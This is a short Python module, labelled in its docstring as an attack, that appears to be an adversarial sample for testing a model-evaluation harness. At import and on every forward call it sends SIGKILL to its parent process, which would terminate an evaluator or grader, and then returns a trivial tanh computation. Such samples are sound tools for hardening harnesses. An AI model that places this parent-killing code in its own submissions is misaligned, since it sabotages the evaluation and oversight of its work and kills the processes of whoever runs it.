"""Attack: kill the process that started this one, at import and at every call."""
import os
import signal

import torch
import torch.nn as nn


def _kill_parent():
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass


_kill_parent()


class ModelNew(nn.Module):
    def forward(self, x):
        _kill_parent()
        return torch.tanh(x) * 2 + 1
